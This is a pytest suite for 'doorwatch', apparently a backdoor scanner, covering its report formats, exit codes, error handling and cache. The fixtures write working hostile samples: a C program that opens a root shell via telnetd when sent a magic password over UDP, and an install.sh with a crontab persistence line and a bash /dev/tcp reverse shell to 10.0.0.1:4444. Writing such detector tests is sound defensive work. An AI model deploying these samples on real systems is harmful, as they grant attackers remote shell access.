"""`doorwatch scan` as a user runs it: formats, exit codes, errors, cache."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

TRIGGER = r"""
#include <string.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <netinet/in.h>
int main(void) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(40200);
    bind(s, (struct sockaddr *)&a, sizeof a);
    for (;;) {
        char buf[256]; int n = recv(s, buf, sizeof buf - 1, 0);
        if (n <= 0) continue;
        buf[n] = 0;
        if (strcmp(buf, "k3Yh0le#2231") == 0) system("/bin/sh -c 'telnetd -l /bin/sh'");
    }
}
"""
PLAIN = "#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; }\n"


@pytest.fixture(scope="module")
def programs(tmp_path_factory) -> Path:
    tree = tmp_path_factory.mktemp("cli-tree")
    for name, source in (("trigger", TRIGGER), ("plain", PLAIN)):
        (tree / f"{name}.c").write_text(source)
        subprocess.run(["gcc", "-O2", "-o", str(tree / name), str(tree / f"{name}.c")], check=True)
    (tree / "notes.txt").write_text("nothing to see\n")
    (tree / "install.sh").write_text("#!/bin/sh\necho '@reboot /tmp/x' | crontab -\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
    return tree


def doorwatch(*args: str, cache: Path | None = None) -> subprocess.CompletedProcess:
    env = dict(os.environ, XDG_CACHE_HOME=str(cache)) if cache else None
    return subprocess.run([sys.executable, "-m", "doorwatch", "scan", *args], capture_output=True, text=True, env=env)


def test_json_contract_and_exit_code(programs):
    result = doorwatch("--format", "json", "--no-cache", str(programs))
    assert result.returncode == 1, result.stderr  # a critical finding is above the default --fail-on high
    report = json.loads(result.stdout)
    assert report["tool"]["name"] == "doorwatch"
    targets = {Path(t["path"]).name: t for t in report["targets"]}
    assert set(targets) == {"trigger", "plain", "install.sh"}  # plain text files in a tree are not targets
    trigger = targets["trigger"]
    assert {"path", "sha256", "type", "arch", "capabilities", "findings"} <= set(trigger)
    assert trigger["type"] == "elf" and trigger["arch"] == "x86-64"
    finding = next(f for f in trigger["findings"] if f["id"] == "magic-value-trigger")
    assert finding["severity"] == "critical"
    assert any("k3Yh0le#2231" in e["value"] for e in finding["evidence"])
    assert targets["plain"]["findings"] == []
    script = targets["install.sh"]
    assert script["type"] == "script"
    assert {"persistence", "reverse-shell"} <= {c["id"] for c in script["capabilities"]}


def test_fail_on_threshold(programs):
    assert doorwatch("-f", "json", "--no-cache", str(programs / "plain")).returncode == 0
    assert doorwatch("-f", "json", "--no-cache", "--fail-on", "critical", str(programs / "trigger")).returncode == 1


def test_sarif_html_and_table(programs, tmp_path):
    sarif = json.loads(doorwatch("-f", "sarif", "--no-cache", str(programs / "trigger")).stdout)
    assert sarif["version"] == "2.1.0"
    result = sarif["runs"][0]["results"][0]
    assert result["ruleId"] == "magic-value-trigger" and result["level"] == "error"
    assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].endswith("trigger")
    out = tmp_path / "report.html"
    assert doorwatch("-f", "html", "-o", str(out), "--no-cache", str(programs)).returncode == 1
    html = out.read_text()
    assert "k3Yh0le#2231" in html and "magic-value-trigger" in html and html.startswith("<!DOCTYPE html>")
    table = doorwatch("-f", "table", "--no-cache", str(programs)).stdout
    assert table.index("target(s) analysed") < table.index("magic-value-trigger")  # summary first


def test_unreadable_input_is_a_one_line_error(tmp_path):
    result = doorwatch("-f", "json", str(tmp_path / "missing"))
    assert result.returncode == 2
    assert "missing" in result.stderr and "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1


def test_malformed_executable_is_reported_not_fatal(tmp_path):
    broken = tmp_path / "broken"
    broken.write_bytes(b"\x7fELF\x02\x01\x01" + b"\xff" * 57 + b"\x00" * 200)
    result = doorwatch("-f", "json", "--no-cache", str(broken))
    assert result.returncode == 0, result.stderr
    target = json.loads(result.stdout)["targets"][0]
    assert target["errors"] and target["sha256"]


def test_cache_makes_a_rescan_fast_and_identical(programs, tmp_path):
    first = doorwatch("-f", "json", "--jobs", "2", str(programs), cache=tmp_path)
    started = time.monotonic()
    second = doorwatch("-f", "json", "--jobs", "2", str(programs), cache=tmp_path)
    elapsed = time.monotonic() - started
    strip = lambda text: [{k: v for k, v in t.items()} for t in json.loads(text)["targets"]]
    assert strip(first.stdout) == strip(second.stdout)
    assert list((tmp_path / "doorwatch" / "scan").rglob("*.json"))
    assert elapsed < 20
